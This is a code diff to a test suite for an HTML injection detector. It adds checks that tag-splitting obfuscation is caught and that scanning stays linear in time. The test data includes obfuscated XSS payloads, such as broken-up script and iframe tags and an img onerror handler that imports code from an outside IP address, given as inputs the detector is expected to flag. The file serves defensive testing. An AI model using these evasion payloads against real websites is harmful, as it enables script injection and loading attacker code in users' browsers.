@@ -470,6 +470,26 @@ describe("html family: catalogue and cost", () => {
     }
   })
 
+  it("reads markup whose words are split by tags a filter strips as the markup left once they are gone", () => {
+    expectVerdicts(
+      (value) => score(value),
+      [
+        "I use <> and <b>bold</b> text",
+        "a<b>c and List<String>x",
+        "H<sub>2</sub>O and E=mc<sup>2</sup>",
+        "pre<wbr>script and on<wbr>load",
+        "un<i>believ</i>able <b>news</b>"
+      ],
+      [
+        "<sc<>ript src=//cdn.example/x.js></sc<>ript>",
+        "<img src=1 oner<b>ror=import('//203.0.113.5')>",
+        "<a href=java<>script:void(fetch(1))>go</a>",
+        "<ifr<i>ame src=javas<b>cript:top.x()>",
+        "<svg on<>load=location=name>"
+      ]
+    )
+  })
+
   it.each([
     ["unclosed tags", "<a"],
     ["unclosed attributes", "<a x=\""],
@@ -481,7 +501,8 @@ describe("html family: catalogue and cost", () => {
     ["handler-like assignments", " onx="],
     ["template braces", "{{"],
     ["UTF-7 runs", "+ADw-"],
-    ["calls", "alert("]
+    ["calls", "alert("],
+    ["tags glued between letters", "a<b>c<>"]
   ])("stays linear on repeated %s", (_, fragment) => {
     // work = characters the tokenizer examined in every context + the linear pattern passes
     const work = [64, 128, 256, 512].map((kb) => analyse(fragment.repeat(Math.ceil((kb * 1024) / fragment.length))).work)
@@ -499,7 +520,8 @@ describe("html family: catalogue and cost", () => {
     ["joined literals", "'al'+"],
     ["JSFuck runs broken by a letter", "[]+!+[]+[]x"],
     ["quotes that never close", "'\"+"],
-    ["UTF-7 runs", "+ADw-"]
+    ["UTF-7 runs", "+ADw-"],
+    ["tags glued between letters", "<a o<>n"]
   ])("takes time linear in the value's length on repeated %s", (_, fragment) => {
     const of = (size: number) => fragment.repeat(Math.ceil(size / fragment.length)).slice(0, size)
     const scan = (value: string) => family.scan(value, { location: "body", paranoia: 2 })
